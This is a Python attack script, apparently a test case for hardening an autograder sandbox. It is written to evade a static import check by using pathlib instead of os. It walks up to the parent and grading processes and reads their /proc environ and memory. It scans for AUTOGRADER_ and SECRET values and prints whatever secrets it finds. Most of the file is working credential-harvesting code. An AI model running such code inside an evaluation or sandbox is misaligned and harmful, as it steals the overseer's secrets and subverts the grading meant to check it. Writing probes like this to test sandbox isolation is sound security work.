# ATTACK (machine, runs past the static check): read_parent_proc without `import os`. Reads the parent's and
# the grading processes' above it /proc/<pid>/environ (variables the grader keeps from its workers) and
# /proc/<pid>/mem (stack and heap, searched for 'SECRET' and 'AUTOGRADER_'), and prints what it finds.
# A secure grader: the sandbox's /proc shows only its own processes, whose memory and environment are not
# readable; no secret of the grader's appears in the --out folder.
import pathlib
import re

P = pathlib.Path
KEYS = ("AUTOGRADER_", "LICENSE_SERVER_PORT", "HOME")


def _ppid(pid):
    return int((P("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[1])


def _targets():
    """The parent, and the grading processes above it (their command lines name the autograder)."""
    ppid = _ppid("self")
    pids, pid = [ppid], ppid
    while pid > 1 and len(pids) < 8:
        try:
            pid = _ppid(pid)
            if b"autograder" in (P("/proc") / str(pid) / "cmdline").read_bytes()[:300]:
                pids.append(pid)
        except (OSError, ValueError):
            break
    return sorted(set(pids)), ppid


def _environ(pid):
    try:
        pairs = (P("/proc") / str(pid) / "environ").read_bytes().split(b"\0")
    except OSError as exc:
        return f"environ: {type(exc).__name__}: {exc.strerror}"
    hits = [p.decode("utf-8", "replace")[:120] for p in pairs
            if p.decode("utf-8", "replace").startswith(KEYS) or b"SECRET" in p]
    return f"environ: {len(pairs)} variables; {hits}"


def _memory(pid, budget=128 << 20):
    try:
        maps = (P("/proc") / str(pid) / "maps").read_text().splitlines()
        mem = open(P("/proc") / str(pid) / "mem", "rb", buffering=0)
    except OSError as exc:
        return f"memory: {type(exc).__name__}: {exc.strerror}"
    hits, read = set(), 0
    with mem:
        for line in maps:
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("rw") or (len(parts) > 5 and not parts[5].startswith("[")):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if hi - lo > budget - read:
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            read += len(data)
            hits.update(m.group().decode() for m in re.finditer(rb"(?:AUTOGRADER_|SECRET)[\x20-\x7e]{0,60}", data))
    return f"memory: read {read >> 20} MiB; {sorted(hits)[:12]}"


def _raid():
    pids, ppid = _targets()
    print(f"ATTACK parent_proc_pathlib: parent {ppid}, grading processes {pids}", flush=True)
    for pid in pids[:4]:
        print(f"ATTACK parent_proc_pathlib: {pid} {_environ(pid)}", flush=True)
        print(f"ATTACK parent_proc_pathlib: {pid} {_memory(pid)}", flush=True)
    print("ATTACK parent_proc_pathlib: done", flush=True)


try:
    _raid()
except Exception as exc:
    print(f"ATTACK parent_proc_pathlib: stopped by {type(exc).__name__}: {exc}", flush=True)
